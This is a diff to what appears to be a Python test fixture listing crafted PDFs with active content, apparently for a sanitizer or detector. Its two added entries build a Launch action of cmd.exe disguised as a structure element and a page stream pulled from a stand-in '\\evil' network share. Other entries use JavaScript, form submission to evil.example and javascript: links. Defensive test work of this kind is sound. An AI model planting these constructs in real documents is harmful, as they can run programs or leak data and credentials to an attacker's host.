@@ -51,6 +51,8 @@ ACTIVE_PDFS = {
     "script in a stream": lambda pdf: setattr(pdf.Root, "OpenAction", Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)"))),
     "script of a field": lambda pdf: form(pdf, AA=Dictionary(K=SCRIPT)),
     "launching a program": lambda pdf: on_page(pdf, annotation(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe")))),
+    "launching, said to be part of the structure": lambda pdf: on_page(pdf, annotation(Subtype=Name.Link, A=Dictionary(Type=Name.StructElem, S=Name.Launch, P=1, Win=Dictionary(F=String("cmd.exe"))))),
+    "content from another file": lambda pdf: setattr(pdf.pages[0], "Contents", pdf.make_stream(b"", F=String("\\\\evil\\a"))),
     "sending a form": lambda pdf: on_page(pdf, annotation(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example")))),
     "going to another file": lambda pdf: on_page(pdf, annotation(Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("\\\\evil\\a.pdf")))),
     "link that runs": lambda pdf: on_page(pdf, annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)")))),
